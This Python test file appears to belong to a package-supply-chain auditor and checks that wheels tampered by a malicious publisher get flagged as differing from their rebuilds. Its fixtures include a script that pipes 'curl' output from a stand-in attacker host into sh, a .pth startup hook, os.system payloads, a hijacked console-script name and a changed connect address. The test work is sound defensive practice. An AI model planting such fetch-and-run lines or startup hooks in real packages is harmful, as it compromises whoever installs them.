"""Issue 45, cases 4 to 8 end to end: excuses written for honest releases, abused by a publisher who controls the
sdist, the wheels, their sizes and whether the build fails. One C-extension release built on this host (as its
publisher would), its wheels tampered and served from a local index, rebuilt in the container; and one release
whose build fails on purpose. Each tampered wheel is `differs`, class code, the member named; the honest wheels
are judged as before; the run exits 1.

- case 4: an added module beside a METADATA padded past the read bound, the build failing on purpose;
- case 5: a changed module whose rebuilt twin (the sdist's copy) is past the read bound;
- case 6: a template anywhere in the sdist (tmpl/zz_cfgpth.pth.in) and an added top-level .pth and script;
- case 7: a console script added under a name that collides with the interpreter-named one once X.Y is set aside;
- case 8: a hard-coded address changed in a module that connects; glibc's _environ where the rebuild reads none.
The read bound is lowered with --max-member-mib 1 so that the padding stays small."""

from __future__ import annotations

import subprocess
import sysconfig
import textwrap
from datetime import datetime, timezone
from pathlib import Path

import pytest

from tests import attacker
from tests.conftest import PYPI
from tests.fixtureindex import build_c_project, lock_line, make_project, retag_wheel

NOW = datetime.now(timezone.utc).replace(microsecond=0)
MANYLINUX = "manylinux_2_17_x86_64.manylinux2014_x86_64"
SO = "twinpkg/_speed.cpython-311-x86_64-linux-gnu.so"
C_SOURCE = r"""#define PY_SSIZE_T_CLEAN
#include <Python.h>
#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>
static const char *volatile where = "1.2.3.4";
static PyObject *ping(PyObject *self, PyObject *arg) {
  struct sockaddr_in a = {0}; int s = socket(AF_INET, SOCK_STREAM, 0);
  a.sin_family = AF_INET; a.sin_port = htons(80); a.sin_addr.s_addr = inet_addr(where);
  int r = connect(s, (struct sockaddr *)&a, sizeof a); close(s); return PyLong_FromLong(r); }
static PyMethodDef methods[] = {{"ping", ping, METH_O, "ping"}, {NULL, NULL, 0, NULL}};
static struct PyModuleDef mod = {PyModuleDef_HEAD_INIT, "_speed", NULL, -1, methods};
PyMODINIT_FUNC PyInit__speed(void) { return PyModule_Create(&mod); }
"""
ENVIRON = "\nextern char **_environ;\nconst char *twin_first_env(void) { return _environ[0]; }\n"
SETUP_PY = textwrap.dedent("""\
    import sys
    from setuptools import Extension, setup
    v = "%d.%d" % sys.version_info[:2]
    setup(ext_modules=[Extension("twinpkg._speed", ["twinpkg/_speed.c"])],
          entry_points={"console_scripts": ["twin-" + v + " = twinpkg:hello"]})
    """)
TEMPLATE = "import os; os.system('true') # @SITE_HOOK@\n"
BIG = "def add(a, b):\n    return a + b\n" + "# padding the sdist's copy past the read bound\n" * 30000  # ~1.4 MB


def _project(root: Path) -> Path:
    import setuptools

    proj = make_project(root, "twinpkg", "1.0", setup_py=SETUP_PY, extra_files={
        "twinpkg/_speed.c": C_SOURCE, "twinpkg/big.py": BIG, "tmpl/zz_cfgpth.pth.in": TEMPLATE,
        "MANIFEST.in": "recursive-include tmpl *.in\n"})
    (proj / "pyproject.toml").write_text(
        f'[build-system]\nrequires = ["setuptools=={setuptools.__version__}"]\nbuild-backend = "setuptools.build_meta"\n\n'
        '[project]\nname = "twinpkg"\nversion = "1.0"\ndescription = "fixture"\nrequires-python = ">=3.8"\n'
        'dynamic = ["scripts"]\n\n[tool.setuptools]\npackages = ["twinpkg"]\n')
    return proj


def _module(tmp_path: Path, name: str, source: str) -> bytes:
    inc = Path(sysconfig.get_paths()["include"])
    if not (inc / "Python.h").exists() or sysconfig.get_python_version() != "3.11":
        pytest.skip("no Python 3.11 headers on this host")
    (tmp_path / f"{name}.c").write_text(source)
    subprocess.run(["gcc", "-shared", "-fPIC", "-O2", f"-I{inc}", str(tmp_path / f"{name}.c"), "-o",
                    str(tmp_path / f"{name}.so")], check=True, capture_output=True)
    return (tmp_path / f"{name}.so").read_bytes()


def _cp312(members: dict) -> None:
    """The publisher's cp312 wheel: its module named for 3.12, WHEEL's tag, and two entries that collide once X.Y
    is set aside: the interpreter-named script runs evil code, a literal twin-{python} the real one."""
    members["twinpkg/_speed.cpython-312-x86_64-linux-gnu.so"] = members.pop(SO)
    wheel_file = next(n for n in members if n.endswith(".dist-info/WHEEL"))
    members[wheel_file] = members[wheel_file].replace(b"cp311-cp311", b"cp312-cp312")
    ep = next(n for n in members if n.endswith(".dist-info/entry_points.txt"))
    members[ep] = b"[console_scripts]\ntwin-3.12 = twinpkg.evil:run\ntwin-{python} = twinpkg:hello\n"
    members["twinpkg/evil.py"] = b"import os\n\ndef run():\n    os.system('id')\n"


def test_excuses_abused_by_the_publisher_stay_differences(tmp_path, index, auditor, container_backend):
    proj = _project(tmp_path / "src")
    sdist, wheel = build_c_project(proj, tmp_path / "host")
    out = tmp_path / "dist"
    evil_py = b"import os\nos.system('id')\n"
    pth = TEMPLATE.replace("@SITE_HOOK@", "1").encode()
    six = _module(tmp_path, "six", C_SOURCE.replace('"1.2.3.4"', '"6.6.6.6"'))
    environ = _module(tmp_path, "environ", C_SOURCE + ENVIRON)
    cases = {  # platform tag -> (edit of the members, the member that must differ, words its detail says)
        "manylinux_2_28_x86_64": (lambda m: m.update({"zz_cfgpth.pth": pth, "twinpkg-1.0.data/scripts/twin-hook":
                                                      b"#!/bin/sh\ncurl -s https://evil.example.xyz/p | sh\n"}),
                                  ["zz_cfgpth.pth", "twinpkg-1.0.data/scripts/twin-hook"], []),
        "manylinux_2_31_x86_64": (lambda m: m.__setitem__("twinpkg/big.py", evil_py), ["twinpkg/big.py"], []),
        "manylinux_2_34_x86_64": (lambda m: m.__setitem__(SO, six), [SO], ["6.6.6.6"]),
        "manylinux_2_35_x86_64": (lambda m: m.__setitem__(SO, environ), [SO], ["imports _environ"]),
    }
    names = {p: retag_wheel(wheel, out, p, edit) for p, (edit, _, _) in cases.items()}
    honest = retag_wheel(wheel, out, MANYLINUX)
    cp312 = retag_wheel(wheel, out / "312", "manylinux_2_17_x86_64", _cp312)
    cp312 = cp312.rename(out / cp312.name.replace("cp311-cp311", "cp312-cp312"))
    failing = attacker.write_sdist(tmp_path / "fail", "setuptools", "demo")
    padded = attacker._metadata("demo") + b"Description-Content-Type: text/plain\n\n" + b"padding " * 160_000
    demo_evil = attacker.write_wheel(tmp_path / "fail-tampered", "demo", "py3-none-any", attacker.members(
        "demo", metadata=padded, extra=[("demo/evil.py", evil_py, 0o644)]))
    lock = tmp_path / "requirements.txt"
    lock.write_text(f"--index-url {index.url}\n"
                    + lock_line("twinpkg", "1.0", *(index.add("twinpkg", f, NOW) for f in
                                                    (sdist, honest, cp312, *names.values())))
                    + lock_line("demo", "1.0", index.add("demo", failing, NOW), index.add("demo", demo_evil, NOW)))
    r = auditor("check", str(lock), "--backend", container_backend, "--build-index-url", PYPI, "--python", "3.11",
                "--max-member-mib", "1")
    assert "Traceback" not in r.stderr, r.stderr[-3000:]
    by = {w["filename"]: w for w in r.package("twinpkg")["wheels"]}
    for platform, (_, members, words) in cases.items():
        w = by[names[platform].name]
        assert w["verdict"] == "differs", (platform, w["reason"])
        found = {d["path"]: d for d in w["differences"]}
        for member in members:
            assert member in found and found[member]["cls"] == "code", (platform, member, w["differences"])
            assert all(x in found[member]["detail"] for x in words), (platform, found[member]["detail"])
        assert not any(s.startswith("configured from") for s in w.get("tool_steps") or []), w["tool_steps"]
    w = by[cp312.name]
    assert w["verdict"] == "differs" and w["check"] == "rebuilt-other-platform", w["reason"]
    assert ("twinpkg-1.0.dist-info/entry_points.txt", "code") in {(d["path"], d["cls"]) for d in w["differences"]}
    assert "entry-point-python-version" not in w["normalizations"]
    h = by[honest.name]
    assert h["verdict"] == "partial" and not h["differences"] and h["verified"]["interface"] == 1, h["reason"]
    (d,) = r.package("demo")["wheels"]
    assert d["verdict"] == "differs" and d["check"] == "sources", d["reason"]
    assert ("demo/evil.py", "code") in {(x["path"], x["cls"]) for x in d["differences"]}
    assert [x["path"] for x in d["not_reproduced"] if x.get("cause") == "read-limit"] == ["demo-1.0.dist-info/METADATA"]
    assert r.code == 1
